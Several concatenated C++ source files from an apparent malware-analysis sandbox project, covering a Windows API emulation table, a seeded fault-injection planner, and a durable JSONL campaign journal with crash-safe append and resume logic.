       .resource_type = ResourceType::kRegistry,
       .operation = Operation::kRead, .handle_arg = 0});
  set({.id = ApiId::kRegSetValueExA, .name = "RegSetValueExA", .num_args = 3,
       .is_resource_api = true, .resource_type = ResourceType::kRegistry,
       .operation = Operation::kWrite, .handle_arg = 0});
  set({.id = ApiId::kRegDeleteKeyA, .name = "RegDeleteKeyA", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kRegistry,
       .operation = Operation::kDelete, .identifier_arg = 0});
  set({.id = ApiId::kRegCloseKey, .name = "RegCloseKey", .num_args = 1});
  set({.id = ApiId::kRegEnumKeyA, .name = "RegEnumKeyA", .num_args = 4,
       .is_resource_api = true, .resource_type = ResourceType::kRegistry,
       .operation = Operation::kRead, .handle_arg = 0});

  // ---- process -------------------------------------------------------------------
  set({.id = ApiId::kCreateProcessA, .name = "CreateProcessA", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kProcess,
       .operation = Operation::kCreate, .identifier_arg = 0});
  set({.id = ApiId::kOpenProcess, .name = "OpenProcess", .num_args = 2,
       .is_resource_api = true, .resource_type = ResourceType::kProcess,
       .operation = Operation::kOpen, .returns_handle = true});
  set({.id = ApiId::kTerminateProcess, .name = "TerminateProcess",
       .num_args = 1, .is_resource_api = true,
       .resource_type = ResourceType::kProcess,
       .operation = Operation::kDelete, .handle_arg = 0});
  set({.id = ApiId::kExitProcess, .name = "ExitProcess", .num_args = 1});
  set({.id = ApiId::kExitThread, .name = "ExitThread", .num_args = 1});
  set({.id = ApiId::kTerminateThread, .name = "TerminateThread",
       .num_args = 1});
  set({.id = ApiId::kWriteProcessMemory, .name = "WriteProcessMemory",
       .num_args = 3, .is_resource_api = true,
       .resource_type = ResourceType::kProcess,
       .operation = Operation::kWrite, .handle_arg = 0});
  set({.id = ApiId::kReadProcessMemory, .name = "ReadProcessMemory",
       .num_args = 3, .is_resource_api = true,
       .resource_type = ResourceType::kProcess, .operation = Operation::kRead,
       .handle_arg = 0});
  set({.id = ApiId::kCreateRemoteThread, .name = "CreateRemoteThread",
       .num_args = 2, .is_resource_api = true,
       .resource_type = ResourceType::kProcess,
       .operation = Operation::kWrite, .handle_arg = 0,
       .returns_handle = true});
  set({.id = ApiId::kVirtualAllocEx, .name = "VirtualAllocEx", .num_args = 2,
       .is_resource_api = true, .resource_type = ResourceType::kProcess,
       .operation = Operation::kWrite, .handle_arg = 0});
  set({.id = ApiId::kCreateToolhelp32Snapshot,
       .name = "CreateToolhelp32Snapshot", .num_args = 0,
       .returns_handle = true});
  set({.id = ApiId::kProcess32FindA, .name = "Process32FindA", .num_args = 2,
       .is_resource_api = true, .resource_type = ResourceType::kProcess,
       .operation = Operation::kOpen, .identifier_arg = 1});
  set({.id = ApiId::kGetCurrentProcessId, .name = "GetCurrentProcessId",
       .num_args = 0});
  set({.id = ApiId::kGetCurrentProcess, .name = "GetCurrentProcess",
       .num_args = 0});

  // ---- service ---------------------------------------------------------------------
  set({.id = ApiId::kOpenSCManagerA, .name = "OpenSCManagerA", .num_args = 0,
       .is_resource_api = true, .resource_type = ResourceType::kService,
       .operation = Operation::kOpen, .returns_handle = true});
  set({.id = ApiId::kCreateServiceA, .name = "CreateServiceA", .num_args = 3,
       .is_resource_api = true, .resource_type = ResourceType::kService,
       .operation = Operation::kCreate, .identifier_arg = 1,
       .returns_handle = true});
  set({.id = ApiId::kOpenServiceA, .name = "OpenServiceA", .num_args = 2,
       .is_resource_api = true, .resource_type = ResourceType::kService,
       .operation = Operation::kOpen, .identifier_arg = 1,
       .returns_handle = true});
  set({.id = ApiId::kStartServiceA, .name = "StartServiceA", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kService,
       .operation = Operation::kWrite, .handle_arg = 0});
  set({.id = ApiId::kDeleteService, .name = "DeleteService", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kService,
       .operation = Operation::kDelete, .handle_arg = 0});
  set({.id = ApiId::kCloseServiceHandle, .name = "CloseServiceHandle",
       .num_args = 1});

  // ---- window -----------------------------------------------------------------------
  set({.id = ApiId::kFindWindowA, .name = "FindWindowA", .num_args = 2,
       .is_resource_api = true, .resource_type = ResourceType::kWindow,
       .operation = Operation::kOpen, .identifier_arg = 0,
       .returns_handle = true});
  set({.id = ApiId::kRegisterClassA, .name = "RegisterClassA", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kWindow,
       .operation = Operation::kCreate, .identifier_arg = 0});
  set({.id = ApiId::kCreateWindowExA, .name = "CreateWindowExA",
       .num_args = 2, .is_resource_api = true,
       .resource_type = ResourceType::kWindow,
       .operation = Operation::kCreate, .identifier_arg = 0,
       .returns_handle = true});
  set({.id = ApiId::kShowWindow, .name = "ShowWindow", .num_args = 2});

  // ---- library -----------------------------------------------------------------------
  set({.id = ApiId::kLoadLibraryA, .name = "LoadLibraryA", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kLibrary,
       .operation = Operation::kOpen, .identifier_arg = 0,
       .returns_handle = true});
  set({.id = ApiId::kGetModuleHandleA, .name = "GetModuleHandleA",
       .num_args = 1, .is_resource_api = true,
       .resource_type = ResourceType::kLibrary, .operation = Operation::kOpen,
       .identifier_arg = 0, .returns_handle = true});
  set({.id = ApiId::kGetProcAddress, .name = "GetProcAddress", .num_args = 2,
       .is_resource_api = true, .resource_type = ResourceType::kLibrary,
       .operation = Operation::kRead, .handle_arg = 0});
  set({.id = ApiId::kFreeLibrary, .name = "FreeLibrary", .num_args = 1});

  // ---- system information ---------------------------------------------------------------
  set({.id = ApiId::kGetComputerNameA, .name = "GetComputerNameA",
       .num_args = 2, .determinism = ApiDeterminism::kEnvironment});
  set({.id = ApiId::kGetUserNameA, .name = "GetUserNameA", .num_args = 2,
       .determinism = ApiDeterminism::kEnvironment});
  set({.id = ApiId::kGetVolumeInformationA, .name = "GetVolumeInformationA",
       .num_args = 0, .determinism = ApiDeterminism::kEnvironment});
  set({.id = ApiId::kGetSystemDirectoryA, .name = "GetSystemDirectoryA",
       .num_args = 2, .determinism = ApiDeterminism::kEnvironment});
  set({.id = ApiId::kGetWindowsDirectoryA, .name = "GetWindowsDirectoryA",
       .num_args = 2, .determinism = ApiDeterminism::kEnvironment});
  set({.id = ApiId::kGetTempPathA, .name = "GetTempPathA", .num_args = 2,
       .determinism = ApiDeterminism::kEnvironment});
  set({.id = ApiId::kGetVersion, .name = "GetVersion", .num_args = 0,
       .determinism = ApiDeterminism::kEnvironment});
  set({.id = ApiId::kGetTickCount, .name = "GetTickCount", .num_args = 0,
       .determinism = ApiDeterminism::kRandom});
  set({.id = ApiId::kQueryPerformanceCounter,
       .name = "QueryPerformanceCounter", .num_args = 1,
       .determinism = ApiDeterminism::kRandom});
  set({.id = ApiId::kGetSystemTime, .name = "GetSystemTime", .num_args = 1,
       .determinism = ApiDeterminism::kRandom});
  set({.id = ApiId::kGetLastError, .name = "GetLastError", .num_args = 0});
  set({.id = ApiId::kSetLastError, .name = "SetLastError", .num_args = 1});
  set({.id = ApiId::kSleep, .name = "Sleep", .num_args = 1});
  set({.id = ApiId::kGetCommandLineA, .name = "GetCommandLineA",
       .num_args = 0});

  // ---- network -----------------------------------------------------------------------------
  set({.id = ApiId::kWSAStartup, .name = "WSAStartup", .num_args = 0,
       .is_network = true});
  set({.id = ApiId::kSocket, .name = "socket", .num_args = 0,
       .returns_handle = true, .is_network = true});
  set({.id = ApiId::kConnect, .name = "connect", .num_args = 3,
       .is_network = true});
  set({.id = ApiId::kSend, .name = "send", .num_args = 3,
       .is_network = true});
  set({.id = ApiId::kRecv, .name = "recv", .num_args = 3,
       .determinism = ApiDeterminism::kRandom, .is_network = true});
  set({.id = ApiId::kClosesocket, .name = "closesocket", .num_args = 1,
       .is_network = true});
  set({.id = ApiId::kGethostbyname, .name = "gethostbyname", .num_args = 1,
       .is_network = true});
  set({.id = ApiId::kDnsQueryA, .name = "DnsQuery_A", .num_args = 1,
       .is_network = true});
  set({.id = ApiId::kInternetOpenA, .name = "InternetOpenA", .num_args = 1,
       .returns_handle = true, .is_network = true});
  set({.id = ApiId::kInternetConnectA, .name = "InternetConnectA",
       .num_args = 3, .returns_handle = true, .is_network = true});
  set({.id = ApiId::kHttpOpenRequestA, .name = "HttpOpenRequestA",
       .num_args = 2, .returns_handle = true, .is_network = true});
  set({.id = ApiId::kHttpSendRequestA, .name = "HttpSendRequestA",
       .num_args = 1, .is_network = true});
  set({.id = ApiId::kInternetReadFile, .name = "InternetReadFile",
       .num_args = 3, .determinism = ApiDeterminism::kRandom,
       .is_network = true});
  set({.id = ApiId::kURLDownloadToFileA, .name = "URLDownloadToFileA",
       .num_args = 2, .is_resource_api = true,
       .resource_type = ResourceType::kFile, .operation = Operation::kCreate,
       .identifier_arg = 1, .is_network = true});

  // ---- string helpers ----------------------------------------------------------------------
  set({.id = ApiId::kLstrcpyA, .name = "lstrcpyA", .num_args = 2});
  set({.id = ApiId::kLstrcatA, .name = "lstrcatA", .num_args = 2});
  set({.id = ApiId::kLstrlenA, .name = "lstrlenA", .num_args = 1});
  set({.id = ApiId::kLstrcmpA, .name = "lstrcmpA", .num_args = 2});
  set({.id = ApiId::kLstrcmpiA, .name = "lstrcmpiA", .num_args = 2});
  set({.id = ApiId::kWsprintfA, .name = "wsprintfA", .num_args = 2});
  set({.id = ApiId::kRtlComputeCrc32, .name = "RtlComputeCrc32",
       .num_args = 3});
  set({.id = ApiId::kItoa, .name = "_itoa", .num_args = 3});
  set({.id = ApiId::kCharUpperA, .name = "CharUpperA", .num_args = 1});
  set({.id = ApiId::kCharLowerA, .name = "CharLowerA", .num_args = 1});

  // ---- misc ----------------------------------------------------------------------------------
  set({.id = ApiId::kVirtualAlloc, .name = "VirtualAlloc", .num_args = 1});
  set({.id = ApiId::kWinExec, .name = "WinExec", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kProcess,
       .operation = Operation::kCreate, .identifier_arg = 0});
  set({.id = ApiId::kRand, .name = "rand", .num_args = 0,
       .determinism = ApiDeterminism::kRandom});
  set({.id = ApiId::kSrand, .name = "srand", .num_args = 1});

  return table;
}

const std::array<ApiSpec, kNumApis>& Table() {
  static const auto table = BuildTable();
  return table;
}

}  // namespace

const ApiSpec& GetApiSpec(ApiId id) {
  const auto index = static_cast<size_t>(id);
  AUTOVAC_CHECK_MSG(index < kNumApis, "bad ApiId");
  const ApiSpec& spec = Table()[index];
  AUTOVAC_CHECK_MSG(spec.id == id, "ApiSpec table hole");
  return spec;
}

std::optional<ApiId> FindApiByName(std::string_view name) {
  static const auto by_name = [] {
    std::map<std::string, ApiId, std::less<>> index;
    for (const ApiSpec& spec : Table()) index.emplace(spec.name, spec.id);
    return index;
  }();
  auto it = by_name.find(name);
  if (it == by_name.end()) return std::nullopt;
  return it->second;
}

std::string_view ApiName(ApiId id) { return GetApiSpec(id).name; }

size_t CountResourceApis() {
  size_t count = 0;
  for (const ApiSpec& spec : Table()) {
    if (spec.is_resource_api) ++count;
  }
  return count;
}

}  // namespace autovac::sandbox
