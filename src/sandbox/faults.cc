#include "sandbox/faults.h"

#include "os/errors.h"
#include "support/strings.h"

namespace autovac::sandbox {

const char* FaultActionName(FaultAction action) {
  switch (action) {
    case FaultAction::kFailCall: return "fail";
    case FaultAction::kDropHooks: return "drop-hooks";
    case FaultAction::kDelayCall: return "delay";
  }
  return "?";
}

FaultPlan FaultPlan::Randomized(uint64_t seed, double fault_rate) {
  FaultPlan plan(seed);
  Rng rng(HashSeed("fault-plan") ^ seed);

  // Error codes a hostile environment plausibly surfaces.
  const std::vector<uint32_t> errors = {
      os::kErrorAccessDenied,      os::kErrorFileNotFound,
      os::kErrorNotEnoughMemory,   os::kErrorNoSystemResources,
      os::kErrorTooManyOpenFiles,  os::kErrorDiskFull,
      os::kErrorSharingViolation,
  };

  // Blanket flakiness: every API may fail with probability fault_rate.
  FaultRule blanket;
  blanket.probability = fault_rate;
  blanket.error = rng.Pick(errors);
  plan.AddRule(blanket);

  // A few deterministic one-shot failures at exact occurrences, the kind
  // of fault a campaign must be able to replay precisely.
  const size_t one_shots = 1 + rng.NextBelow(3);
  for (size_t i = 0; i < one_shots; ++i) {
    FaultRule rule;
    rule.api = static_cast<ApiId>(rng.NextBelow(kNumApis));
    rule.occurrence = static_cast<int32_t>(rng.NextBelow(8));
    rule.error = rng.Pick(errors);
    plan.AddRule(rule);
  }

  if (rng.NextBool(0.5)) {
    FaultRule drop;
    drop.action = FaultAction::kDropHooks;
    drop.probability = fault_rate / 2;
    plan.AddRule(drop);
  }
  if (rng.NextBool(0.5)) {
    FaultRule delay;
    delay.action = FaultAction::kDelayCall;
    delay.probability = fault_rate;
    delay.delay_cycles = 100 + rng.NextBelow(5000);
    plan.AddRule(delay);
  }

  ResourceQuotas quotas;
  if (rng.NextBool(0.3)) {
    quotas.max_handles = static_cast<uint32_t>(4 + rng.NextBelow(60));
  }
  if (rng.NextBool(0.3)) {
    quotas.max_objects = static_cast<uint32_t>(50 + rng.NextBelow(150));
  }
  if (rng.NextBool(0.3)) {
    quotas.max_file_bytes = 64 + rng.NextBelow(4096);
  }
  plan.set_quotas(quotas);
  return plan;
}

std::string FaultPlan::Summary() const {
  std::string out = StrFormat("fault-plan seed=%llu rules=%zu",
                              static_cast<unsigned long long>(seed_),
                              rules_.size());
  for (const FaultRule& rule : rules_) {
    out += StrFormat(
        " [%s %s %s err=%u]", FaultActionName(rule.action),
        rule.api == ApiId::kApiCount ? "*"
                                     : std::string(ApiName(rule.api)).c_str(),
        rule.occurrence >= 0 ? StrFormat("occ=%d", rule.occurrence).c_str()
                             : StrFormat("p=%.3f", rule.probability).c_str(),
        rule.error);
  }
  if (!quotas_.Unlimited()) {
    out += StrFormat(" quotas[handles=%u objects=%u file_bytes=%llu]",
                     quotas_.max_handles, quotas_.max_objects,
                     static_cast<unsigned long long>(quotas_.max_file_bytes));
  }
  return out;
}

FaultInjector::FaultInjector(const FaultPlan& plan)
    : plan_(plan),
      rng_(HashSeed("fault-injector") ^ plan.seed()),
      calls_seen_(kNumApis + 1, 0),
      rule_fired_(plan.rules().size(), false) {}

FaultInjector::Decision FaultInjector::OnApiCall(ApiId id) {
  Decision decision;
  const uint32_t seen_api = calls_seen_[static_cast<size_t>(id)]++;
  const uint32_t seen_any = calls_seen_[kNumApis]++;

  const std::vector<FaultRule>& rules = plan_.rules();
  for (size_t i = 0; i < rules.size(); ++i) {
    const FaultRule& rule = rules[i];
    if (rule.api != ApiId::kApiCount && rule.api != id) continue;

    bool fires = false;
    if (rule.occurrence >= 0) {
      const uint32_t seen =
          rule.api == ApiId::kApiCount ? seen_any : seen_api;
      if (!rule_fired_[i] &&
          seen == static_cast<uint32_t>(rule.occurrence)) {
        fires = true;
        rule_fired_[i] = true;
      }
    } else if (rule.probability > 0.0) {
      // One draw per matching rule per call keeps the stream aligned
      // across runs regardless of which rules fire.
      fires = rng_.NextBool(rule.probability);
    }
    if (!fires) continue;

    ++faults_injected_;
    switch (rule.action) {
      case FaultAction::kFailCall:
        if (!decision.fail) {
          decision.fail = true;
          decision.error =
              rule.error == 0 ? os::kErrorAccessDenied : rule.error;
        }
        break;
      case FaultAction::kDropHooks:
        decision.drop_hooks = true;
        break;
      case FaultAction::kDelayCall:
        decision.delay_cycles += rule.delay_cycles;
        break;
    }
  }
  return decision;
}

}  // namespace autovac::sandbox
