#include "campaign/journal.h"

#include <fcntl.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <cstring>
#include <utility>

#include "support/digest.h"
#include "support/json.h"
#include "support/strings.h"
#include "vaccine/json.h"

namespace autovac::campaign {
namespace {

// Test seam for the write path; nullptr (production) is the raw syscall.
// Relaxed atomics: tests install the shim before any journal activity.
std::atomic<JournalWriteShim> g_write_shim{nullptr};

// EINTR/partial-write audit (mirrors net/frame.cc): a journal append may
// be split across many ::write calls — a signal can interrupt before any
// byte moves (EINTR, retried) or after a prefix landed (short count, the
// loop continues from `written`). A failure mid-record leaves a torn
// tail, which Load drops by design; bytes are only acknowledged as
// durable once the whole line *and* its fsync complete. A zero-byte
// write (possible only for a zero-length buffer, which the callers never
// pass) would loop forever, so it is rejected defensively.
Status WriteAll(int fd, std::string_view bytes) {
  const JournalWriteShim shim = g_write_shim.load(std::memory_order_relaxed);
  size_t written = 0;
  while (written < bytes.size()) {
    const ssize_t n =
        shim != nullptr
            ? shim(fd, bytes.data() + written, bytes.size() - written)
            : ::write(fd, bytes.data() + written, bytes.size() - written);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Internal(StrFormat("journal write failed: %s",
                                        std::strerror(errno)));
    }
    if (n == 0) {
      return Status::Internal("journal write made no progress");
    }
    written += static_cast<size_t>(n);
  }
  return Status::Ok();
}

std::string HeaderToJson(const JournalHeader& header) {
  std::string out = StrFormat(
      "{\"type\":\"header\",\"version\":%llu,\"config_digest\":\"%s\","
      "\"samples\":[",
      static_cast<unsigned long long>(header.version),
      JsonEscape(header.config_digest).c_str());
  for (size_t i = 0; i < header.sample_names.size(); ++i) {
    if (i > 0) out += ",";
    out += StrFormat("{\"name\":\"%s\",\"digest\":\"%s\"}",
                     JsonEscape(header.sample_names[i]).c_str(),
                     JsonEscape(header.sample_digests[i]).c_str());
  }
  out += "]}";
  return out;
}

Result<JournalHeader> HeaderFromJson(const JsonValue& json) {
  JournalHeader header;
  AUTOVAC_ASSIGN_OR_RETURN(const std::string type,
                           JsonFieldString(json, "type"));
  if (type != "header") {
    return Status::InvalidArgument("first journal record is not a header");
  }
  AUTOVAC_ASSIGN_OR_RETURN(header.version,
                           JsonFieldUint64(json, "version"));
  if (header.version != kJournalVersion) {
    return Status::InvalidArgument(
        StrFormat("unsupported journal version %llu",
                  static_cast<unsigned long long>(header.version)));
  }
  AUTOVAC_ASSIGN_OR_RETURN(header.config_digest,
                           JsonFieldString(json, "config_digest"));
  const JsonValue* samples = json.Find("samples");
  if (samples == nullptr || !samples->is_array()) {
    return Status::InvalidArgument("journal header has no samples array");
  }
  for (const JsonValue& sample : samples->array) {
    AUTOVAC_ASSIGN_OR_RETURN(std::string name,
                             JsonFieldString(sample, "name"));
    AUTOVAC_ASSIGN_OR_RETURN(std::string digest,
                             JsonFieldString(sample, "digest"));
    header.sample_names.push_back(std::move(name));
    header.sample_digests.push_back(std::move(digest));
  }
  return header;
}

}  // namespace

void SetJournalWriteShimForTest(JournalWriteShim shim) {
  g_write_shim.store(shim, std::memory_order_relaxed);
}

std::string CampaignConfigDigest(const vaccine::PipelineOptions& options,
                                 const std::vector<vm::Program>& samples,
                                 std::string_view extra) {
  std::string canonical = StrFormat(
      "autovac-campaign-v1 phase1_budget=%llu impact_budget=%llu "
      "min_literal=%zu track_cd=%d run_exclusiveness=%d max_targets=%zu "
      "machine_seed=%llu max_call_depth=%u max_api_calls=%llu "
      "max_inst_records=%zu max_api_records=%zu max_impact_retries=%zu "
      "extra=",
      static_cast<unsigned long long>(options.phase1_budget),
      static_cast<unsigned long long>(options.impact.cycle_budget),
      options.determinism.min_literal_chars,
      options.determinism.track_control_dependence ? 1 : 0,
      options.run_exclusiveness ? 1 : 0, options.max_targets,
      static_cast<unsigned long long>(options.machine_seed),
      options.limits.max_call_depth,
      static_cast<unsigned long long>(options.limits.max_api_calls),
      options.limits.max_instruction_records, options.limits.max_api_records,
      options.max_impact_retries);
  canonical += extra;
  canonical += "\n";
  for (const vm::Program& sample : samples) {
    canonical += sample.Digest();
    canonical += "\n";
  }
  return HexDigest128(canonical);
}

JournalHeader MakeJournalHeader(const vaccine::PipelineOptions& options,
                                const std::vector<vm::Program>& samples,
                                std::string_view extra) {
  JournalHeader header;
  header.config_digest = CampaignConfigDigest(options, samples, extra);
  header.sample_names.reserve(samples.size());
  header.sample_digests.reserve(samples.size());
  for (const vm::Program& sample : samples) {
    header.sample_names.push_back(sample.name);
    header.sample_digests.push_back(sample.Digest());
  }
  return header;
}

CampaignJournal::~CampaignJournal() {
  if (fd_ >= 0) ::close(fd_);
}

CampaignJournal::CampaignJournal(CampaignJournal&& other) noexcept
    : fd_(other.fd_), sync_(other.sync_) {
  other.fd_ = -1;
}

CampaignJournal& CampaignJournal::operator=(
    CampaignJournal&& other) noexcept {
  if (this != &other) {
    if (fd_ >= 0) ::close(fd_);
    fd_ = other.fd_;
    sync_ = other.sync_;
    other.fd_ = -1;
  }
  return *this;
}

Result<CampaignJournal> CampaignJournal::Create(const std::string& path,
                                                const JournalHeader& header) {
  const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) {
    return Status::Internal(StrFormat("cannot create journal %s: %s",
                                      path.c_str(), std::strerror(errno)));
  }
  CampaignJournal journal;
  journal.fd_ = fd;
  AUTOVAC_RETURN_IF_ERROR(WriteAll(fd, HeaderToJson(header) + "\n"));
  if (::fsync(fd) != 0) {
    return Status::Internal(StrFormat("journal fsync failed: %s",
                                      std::strerror(errno)));
  }
  return journal;
}

Result<CampaignJournal> CampaignJournal::OpenAppend(const std::string& path) {
  const int fd = ::open(path.c_str(), O_WRONLY | O_APPEND);
  if (fd < 0) {
    return Status::NotFound(StrFormat("cannot open journal %s: %s",
                                      path.c_str(), std::strerror(errno)));
  }
  CampaignJournal journal;
  journal.fd_ = fd;
  return journal;
}

Result<CampaignJournal::Replay> CampaignJournal::Load(
    const std::string& path, size_t corpus_size) {
  const int fd = ::open(path.c_str(), O_RDONLY);
  if (fd < 0) {
    return Status::NotFound(StrFormat("cannot read journal %s: %s",
                                      path.c_str(), std::strerror(errno)));
  }
  std::string text;
  char buffer[1 << 16];
  while (true) {
    const ssize_t n = ::read(fd, buffer, sizeof(buffer));
    if (n < 0) {
      if (errno == EINTR) continue;
      const int err = errno;
      ::close(fd);
      return Status::Internal(StrFormat("journal read failed: %s",
                                        std::strerror(err)));
    }
    if (n == 0) break;
    text.append(buffer, static_cast<size_t>(n));
  }
  ::close(fd);

  // Split into lines; a final chunk without '\n' is a torn tail.
  std::vector<std::string_view> lines;
  bool tail_unterminated = false;
  size_t pos = 0;
  while (pos < text.size()) {
    const size_t eol = text.find('\n', pos);
    if (eol == std::string::npos) {
      lines.emplace_back(text.data() + pos, text.size() - pos);
      tail_unterminated = true;
      break;
    }
    lines.emplace_back(text.data() + pos, eol - pos);
    pos = eol + 1;
  }
  if (lines.empty()) {
    return Status::InvalidArgument("journal is empty: " + path);
  }

  Replay replay;
  replay.reports.resize(corpus_size);

  for (size_t i = 0; i < lines.size(); ++i) {
    const bool is_tail = (i + 1 == lines.size());
    auto parsed = ParseJson(lines[i]);
    if (!parsed.ok()) {
      if (is_tail) {
        // Torn final record: the append was interrupted mid-write. Drop
        // it; the sample will be re-analyzed.
        replay.torn_tail = true;
        break;
      }
      return Status::InvalidArgument(
          StrFormat("journal record %zu is corrupt (%s)", i,
                    parsed.status().message().c_str()));
    }
    if (is_tail && tail_unterminated) {
      // Parsed but unterminated: the newline (written in the same
      // syscall) is missing, so treat it as torn anyway — the record
      // cannot have been acknowledged as durable.
      replay.torn_tail = true;
      break;
    }
    if (i == 0) {
      AUTOVAC_ASSIGN_OR_RETURN(replay.header,
                               HeaderFromJson(parsed.value()));
      continue;
    }
    auto type = JsonFieldString(parsed.value(), "type");
    if (!type.ok() || (type.value() != "sample" && type.value() != "assign")) {
      return Status::InvalidArgument(
          StrFormat("journal record %zu has bad type", i));
    }
    AUTOVAC_ASSIGN_OR_RETURN(const uint64_t index,
                             JsonFieldUint64(parsed.value(), "index"));
    if (index >= corpus_size) {
      return Status::InvalidArgument(
          StrFormat("journal record %zu: sample index %llu out of range",
                    i, static_cast<unsigned long long>(index)));
    }
    if (type.value() == "assign") {
      // Fleet assignment: advisory (the sample is reissued if no sample
      // record follows), but the lease-id floor must survive resume.
      AUTOVAC_ASSIGN_OR_RETURN(const uint64_t lease,
                               JsonFieldUint64(parsed.value(), "lease"));
      ++replay.assignments;
      if (lease > replay.max_lease_id) replay.max_lease_id = lease;
      continue;
    }
    const JsonValue* report_json = parsed.value().Find("report");
    if (report_json == nullptr) {
      return Status::InvalidArgument(
          StrFormat("journal record %zu has no report", i));
    }
    AUTOVAC_ASSIGN_OR_RETURN(vaccine::SampleReport report,
                             vaccine::SampleReportFromJson(*report_json));
    if (!replay.reports[index].has_value()) ++replay.completed;
    replay.reports[index] = std::move(report);
  }
  return replay;
}

Status CampaignJournal::Append(size_t index,
                               const vaccine::SampleReport& report) {
  if (fd_ < 0) return Status::FailedPrecondition("journal is not open");
  const std::string line = StrFormat(
      "{\"type\":\"sample\",\"index\":%zu,\"report\":%s}\n", index,
      vaccine::SampleReportToJson(report).c_str());
  AUTOVAC_RETURN_IF_ERROR(WriteAll(fd_, line));
  if (sync_ && ::fsync(fd_) != 0) {
    return Status::Internal(StrFormat("journal fsync failed: %s",
                                      std::strerror(errno)));
  }
  return Status::Ok();
}

Status CampaignJournal::AppendAssignment(size_t index,
                                         std::string_view worker_id,
                                         uint64_t lease_id) {
  if (fd_ < 0) return Status::FailedPrecondition("journal is not open");
  const std::string line = StrFormat(
      "{\"type\":\"assign\",\"index\":%zu,\"worker\":\"%s\",\"lease\":%llu}\n",
      index, JsonEscape(worker_id).c_str(),
      static_cast<unsigned long long>(lease_id));
  AUTOVAC_RETURN_IF_ERROR(WriteAll(fd_, line));
  if (sync_ && ::fsync(fd_) != 0) {
    return Status::Internal(StrFormat("journal fsync failed: %s",
                                      std::strerror(errno)));
  }
  return Status::Ok();
}

}  // namespace autovac::campaign
