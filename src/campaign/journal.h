// Write-ahead journal for durable campaigns.
//
// Append-only JSONL: line 1 is a header record binding the journal to a
// specific campaign (journal version, a digest of the pipeline
// configuration, and the digest of every corpus sample in order); every
// subsequent line is one completed SampleReport, fsync'd before the
// campaign moves on. A campaign interrupted by crash, OOM-kill or
// operator Ctrl-C therefore loses at most the sample in flight, and
// `--resume` replays the journal to skip exactly the samples already
// done.
//
// Torn-tail semantics: a crash mid-append leaves a final line that is
// either missing its newline or not valid JSON. Load() drops that tail
// record (reporting it via Replay::torn_tail) and the sample is simply
// re-analyzed on resume. Corruption anywhere *before* the tail is a
// refused resume, not a silent skip.
#pragma once

#include <sys/types.h>

#include <optional>
#include <string>
#include <vector>

#include "support/status.h"
#include "vaccine/pipeline.h"
#include "vm/program.h"

namespace autovac::campaign {

inline constexpr uint64_t kJournalVersion = 1;

// Test-only write shim: routes every journal ::write through `shim` so a
// test can force short transfers and spurious EINTR against a real fd —
// the same discipline PR 6's wire shim applies to sockets, here applied
// to the journal. The shim returns the byte count written or -1 with
// errno set. nullptr restores the raw syscall.
using JournalWriteShim = ssize_t (*)(int fd, const char* data, size_t len);
void SetJournalWriteShimForTest(JournalWriteShim shim);

struct JournalHeader {
  uint64_t version = kJournalVersion;
  // Digest over the pipeline configuration + corpus digests; a resume
  // against a different campaign is refused instead of producing a
  // silently mixed report.
  std::string config_digest;
  std::vector<std::string> sample_names;    // corpus order
  std::vector<std::string> sample_digests;  // index-aligned with names
};

// Canonical configuration digest: every PipelineOptions field that
// affects analysis output, plus each sample digest in corpus order.
// `extra` folds in caller-side configuration the options struct cannot
// see (e.g. the CLI's fault seed/rate).
[[nodiscard]] std::string CampaignConfigDigest(
    const vaccine::PipelineOptions& options,
    const std::vector<vm::Program>& samples, std::string_view extra = "");

[[nodiscard]] JournalHeader MakeJournalHeader(
    const vaccine::PipelineOptions& options,
    const std::vector<vm::Program>& samples, std::string_view extra = "");

class CampaignJournal {
 public:
  CampaignJournal() = default;
  ~CampaignJournal();
  CampaignJournal(CampaignJournal&& other) noexcept;
  CampaignJournal& operator=(CampaignJournal&& other) noexcept;
  CampaignJournal(const CampaignJournal&) = delete;
  CampaignJournal& operator=(const CampaignJournal&) = delete;

  // Truncates `path` and writes (and fsyncs) the header record.
  [[nodiscard]] static Result<CampaignJournal> Create(
      const std::string& path, const JournalHeader& header);

  // Opens an existing journal for appending further sample records.
  [[nodiscard]] static Result<CampaignJournal> OpenAppend(
      const std::string& path);

  // Replayed journal state.
  struct Replay {
    JournalHeader header;
    // Index-aligned with the corpus; nullopt = not yet completed.
    std::vector<std::optional<vaccine::SampleReport>> reports;
    size_t completed = 0;
    bool torn_tail = false;  // a torn final record was dropped
    // Fleet coordinator state: how many assignment records were seen and
    // the highest lease id ever issued. A resumed coordinator hands out
    // lease ids strictly above max_lease_id, so no lease id from a prior
    // incarnation can ever be mistaken for a live one.
    size_t assignments = 0;
    uint64_t max_lease_id = 0;
  };

  // Parses the journal at `path`. `corpus_size` bounds the sample index
  // space; records past it are rejected (journal belongs to a bigger
  // campaign — the config digest check in the caller gives the real
  // error, this is the defensive backstop).
  [[nodiscard]] static Result<Replay> Load(const std::string& path,
                                           size_t corpus_size);

  // Appends one completed sample record and fsyncs it to disk. With
  // `sync` false (benchmarks only) the fsync is skipped.
  [[nodiscard]] Status Append(size_t index,
                              const vaccine::SampleReport& report);

  // Appends (and fsyncs) one fleet assignment record: sample `index` is
  // now leased to `worker_id` under `lease_id`. Advisory for resume
  // (assignments without a matching sample record are simply reissued),
  // but the durable lease-id floor: Load's max_lease_id covers it.
  [[nodiscard]] Status AppendAssignment(size_t index,
                                        std::string_view worker_id,
                                        uint64_t lease_id);

  void set_sync(bool sync) { sync_ = sync; }
  [[nodiscard]] bool open() const { return fd_ >= 0; }

 private:
  int fd_ = -1;
  bool sync_ = true;
};

}  // namespace autovac::campaign
