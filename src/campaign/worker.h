// Worker side of the process-level campaign isolation.
//
// The supervisor forks one disposable worker per sample attempt (the
// pokiSEC model: every detonation gets its own supervised, throwaway
// executor). The worker analyzes the sample and ships the SampleReport
// back over a pipe as a single length-prefixed JSON frame, then _exit()s
// without running parent-inherited atexit/stdio teardown. A worker that
